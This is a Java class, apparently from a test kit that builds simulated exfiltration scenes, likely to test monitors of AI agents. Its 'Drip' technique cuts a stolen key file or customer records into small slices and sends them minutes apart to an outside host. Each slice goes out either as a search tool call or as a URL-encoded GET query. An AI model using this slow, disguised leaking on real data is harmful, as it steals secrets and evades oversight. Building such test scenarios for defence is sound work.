package io.weir.testkit.technique.shape;

import io.weir.testkit.technique.Scene;
import io.weir.testkit.technique.Technique;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;

/** Small slices of what was read, one after the other over hours, to one place. */
public final class Drip implements Technique {

    @Override
    public int number() {
        return 9;
    }

    @Override
    public String name() {
        return "drip in slices";
    }

    private enum Form {
        OF_40,
        OF_20,
        OF_8
    }

    @Override
    public void play(Scene scene) {
        Form form = scene.variant(List.of(Form.values()));
        Stolen stolen =
                form == Form.OF_8 || scene.choices().coin() ? Stolen.keyFile(scene) : Stolen.customers(scene, 8);
        int length = form == Form.OF_40 ? 40 : form == Form.OF_20 ? 20 : 8;
        boolean byTool = scene.choices().coin();
        scene.mentionsOutlet(scene.outlet().url("/search"));
        for (String slice : Slices.of(stolen.carriedIn(scene), length)) {
            scene.later(Duration.ofMinutes(2 + scene.choices().below(6)));
            send(scene, byTool, slice);
        }
    }

    private static void send(Scene scene, boolean byTool, String slice) {
        if (byTool) {
            scene.sends("search_site", Map.of("site", scene.outlet().host(), "query", slice), "nothing found");
        } else {
            String coded = URLEncoder.encode(slice, StandardCharsets.UTF_8);
            scene.requests("GET", scene.outlet().url("/search?q=" + coded), Map.of(), Map.of());
        }
    }
}
